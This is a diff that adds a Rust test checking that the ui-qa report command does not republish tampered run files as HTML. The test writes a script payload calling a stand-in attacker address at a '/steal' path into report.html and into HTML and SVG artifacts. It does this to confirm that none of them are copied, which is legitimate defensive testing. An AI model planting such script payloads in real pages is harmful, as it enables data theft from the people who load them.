@@ -535,3 +535,68 @@ fn a_report_holding_a_secret_is_not_written() {
         "{err}"
     );
 }
+
+/// A downloaded run anyone could have tampered with: its `report.html`
+/// replaced by a page with a script, an HTML file and an SVG added among
+/// its artifacts. `ui-qa report` copies none of them; the run's report in
+/// the merged folder is written anew from its `result.json`.
+#[test]
+fn a_tampered_run_is_never_republished_as_html() {
+    let t = tempfile::tempdir().unwrap();
+    let flows = t.path().join("flows");
+    std::fs::create_dir(&flows).unwrap();
+    let flow = terminal_flow(&flows, "tampered", true);
+    let ws = t.path().join("ws");
+    let (code, _, err) = ui_qa(
+        &[
+            os("run"),
+            os("--run-id"),
+            os("r1"),
+            os("--workspace"),
+            ws.as_os_str(),
+            flow.as_os_str(),
+        ],
+        |_| {},
+    );
+    assert_eq!(code, 0, "{err}");
+    let run = ws.join("runs/r1");
+    let evil = "<script>fetch('http://198.51.100.7/steal')</script>TAMPERED";
+    std::fs::write(run.join("report.html"), evil).unwrap();
+    std::fs::create_dir_all(run.join("artifacts/logs")).unwrap();
+    std::fs::write(run.join("artifacts/logs/evil.html"), evil).unwrap();
+    std::fs::write(run.join("artifacts/logs/evil.SVG"), evil).unwrap();
+
+    let out = t.path().join("out");
+    let (code, _, err) = ui_qa(
+        &[
+            os("report"),
+            ws.as_os_str(),
+            os("--output"),
+            out.as_os_str(),
+        ],
+        |_| {},
+    );
+    assert_eq!(code, 0, "{err}");
+    let copy = out.join("runs/r1");
+    let page = std::fs::read_to_string(copy.join("report.html")).unwrap();
+    assert!(
+        !page.contains("TAMPERED") && !page.contains("198.51.100.7"),
+        "{page}"
+    );
+    assert!(page.contains("Written by ui-qa"), "{page}");
+    assert!(page.contains("tampered"), "the run's own report: {page}");
+    for f in ["artifacts/logs/evil.html", "artifacts/logs/evil.SVG"] {
+        assert!(!copy.join(f).exists(), "{f} was copied");
+    }
+    // No file anywhere in the merged folder carries the page's script.
+    for f in walk(&out) {
+        if f.is_file() {
+            let bytes = std::fs::read(&f).unwrap();
+            assert!(
+                !String::from_utf8_lossy(&bytes).contains("198.51.100.7"),
+                "{} carries the tampered page",
+                f.display()
+            );
+        }
+    }
+}
